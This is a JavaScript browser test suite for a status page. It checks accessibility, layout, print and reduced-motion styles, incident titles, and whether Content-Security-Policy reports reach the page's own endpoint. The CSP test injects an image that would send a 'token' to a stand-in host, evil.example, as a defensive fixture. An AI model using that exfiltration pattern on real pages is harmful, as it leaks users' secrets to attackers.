// The status page in a real browser: for everybody, in every theme and medium, under its policy,
// whose reports come to the door of this bundle.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { after, before, test } from "node:test";
import { BASE, close, data, fault, forceColours, pourtrait, says, tab, tick } from "./browser.js";

const AXE = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");

before(() => tick(2));
after(close);

async function looking(options, work) {
  const opened = await tab(options);
  try {
    await opened.page.goto(`${BASE}/status`);
    await work(opened.page);
    assert.deepEqual(opened.complaints, []);
  } finally {
    await opened.close();
  }
}

async function violations(page) {
  await page.evaluate(AXE);
  return page.evaluate(async () => {
    const { violations: found } = await axe.run(document, { resultTypes: ["violations"] });
    return found.map(({ id, nodes }) => `${id}: ${nodes[0].html} ${nodes[0].failureSummary}`);
  });
}

for (const scheme of ["light", "dark"]) {
  for (const width of [320, 1280]) {
    test(`nothing keeps anybody out, ${scheme} at ${width} pixels`, async () => {
      await looking({ scheme, width }, async (page) => {
        await page.waitForSelector("#device:not([hidden])");
        assert.deepEqual(await violations(page), []);
        const sideways = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
        assert.ok(sideways <= 0, `the page is ${sideways} pixels too wide`);
        const small = await page.$$eval("button, footer a, input", (found) => found.filter((one) => one.checkVisibility() && one.getBoundingClientRect().height < 16).map(({ outerHTML }) => outerHTML));
        assert.deepEqual(small, []);
      });
    });
  }
}

test("without script everything is there but what needs one", async () => {
  const { page, close: leave } = await tab();
  await page.setJavaScriptEnabled(false);
  await page.goto(`${BASE}/status`);
  assert.match(await page.$eval("main", ({ innerText }) => innerText), /What works/);
  assert.equal(await page.$eval("#device", (device) => device.checkVisibility()), false);
  await leave();
});

test("the title of what is open says how it is now", async () => {
  const headline = async () => (await (await fetch(`${BASE}/status`)).text()).match(/class="incident"[^>]*><h2><a[^>]*>([^<]*)/)?.[1] ?? "";
  const until = async (expected, meanwhile = () => new Promise((again) => setTimeout(again, 250))) => {
    const limit = Date.now() + 40_000;
    let found = await headline();
    while (!expected.test(found) && Date.now() < limit) {
      await meanwhile();
      found = await headline();
    }
    assert.match(found, expected);
  };
  await fault("app", "refuse");
  await tick(3);
  await until(/^The app: not working$/);
  const { number } = (await data()).incidents.find(({ status }) => status !== "resolved");
  pourtrait("incidents", "update", String(number), "--status", "monitoring");
  await fault("app", "ok");
  await tick(3);
  const isOpen = async () => (await data()).incidents.some(({ status }) => status !== "resolved");
  // What failed often is looked at more often before it counts as working; then it may close by itself.
  if (await isOpen()) await until(/^(The app: working again, not closed yet)?$/, () => tick(1));
  if (await isOpen()) pourtrait("incidents", "update", String(number), "--status", "resolved");
});

test("colours that somebody else chose leave every state to be told by its shape", async () => {
  await looking({}, async (page) => {
    await forceColours(page);
    const marks = await page.$$eval(".mark", (found) => found.filter((mark) => mark.checkVisibility()).map((mark) => {
      const ink = mark.querySelector(".ink, .ring");
      const { fill, stroke } = getComputedStyle(ink);
      return { class: mark.getAttribute("class"), isSeen: [fill, stroke].some((colour) => !["none", "rgba(0, 0, 0, 0)", getComputedStyle(document.body).backgroundColor].includes(colour)) };
    }));
    assert.ok(marks.length > 3 && marks.every(({ isSeen }) => isSeen), JSON.stringify(marks));
    const frames = await page.$$eval("button", (found) => found.filter((one) => one.checkVisibility()).map((one) => getComputedStyle(one).borderTopStyle));
    assert.ok(frames.every((style) => style !== "none"), frames.join());
  });
});

test("printed it is black on white, and what is pressed is left out", async () => {
  await looking({ scheme: "dark" }, async (page) => {
    await page.emulateMediaType("print");
    const found = await page.evaluate(() => ({
      ground: getComputedStyle(document.body).backgroundColor, text: getComputedStyle(document.body).color,
      forms: [...document.querySelectorAll("form")].filter((form) => form.checkVisibility()).length,
    }));
    const light = (colour) => colour.match(/\d+/g).slice(0, 3).reduce((sum, part) => sum + Number(part), 0) > 600 || /rgba\(0, 0, 0, 0\)/.test(colour);
    assert.ok(light(found.ground) && !light(found.text), JSON.stringify(found));
    assert.equal(found.forms, 0);
  });
});

test("whoever wants no movement sees none", async () => {
  await looking({}, async (page) => {
    await page.emulateMediaFeatures([{ name: "prefers-reduced-motion", value: "reduce" }]);
    const moving = await page.evaluate(() => [...document.querySelectorAll("*")].filter((one) => {
      const { transitionDuration, animationName, animationDuration } = getComputedStyle(one);
      return parseFloat(transitionDuration) > 0.01 || (animationName !== "none" && parseFloat(animationDuration) > 0.01);
    }).map(({ outerHTML }) => outerHTML.slice(0, 80)));
    assert.deepEqual(moving, []);
  });
});

test("what the policy of a page refuses comes to our own door", async () => {
  const { page, close: leave } = await tab();
  // Browsers send by report-to from encrypted pages alone; these are not.
  await page.setRequestInterception(true);
  page.on("request", async (request) => {
    if (!request.isNavigationRequest()) return request.continue();
    const answer = await fetch(request.url());
    const headers = Object.fromEntries(answer.headers);
    assert.match(headers["content-security-policy"], /; report-uri \/api\/reports; report-to ops$/);
    assert.equal(headers["reporting-endpoints"], 'ops="/api/reports"');
    headers["content-security-policy"] = headers["content-security-policy"].replace("; report-to ops", "");
    delete headers["content-encoding"];
    return request.respond({ status: answer.status, headers, body: await answer.text() });
  });
  for (const path of ["/status", "/dashboard", "/runbook.html"]) {
    await page.goto(BASE + path);
    const sent = page.waitForResponse((answer) => new URL(answer.url()).pathname === "/api/reports");
    await page.evaluate(() => document.body.append(Object.assign(document.createElement("img"), { src: "https://evil.example/x.png?token=s3cret" })));
    assert.equal((await sent).status(), 204, path);
  }
  await leave();
  const { keys } = JSON.parse(pourtrait("door", "keys", "--json"));
  const own = keys.find(({ name }) => name === "pages of this bundle");
  assert.deepEqual(own.origins, [new URL(BASE).origin]);
  assert.ok(own.takenToday >= 3, JSON.stringify(own));
});
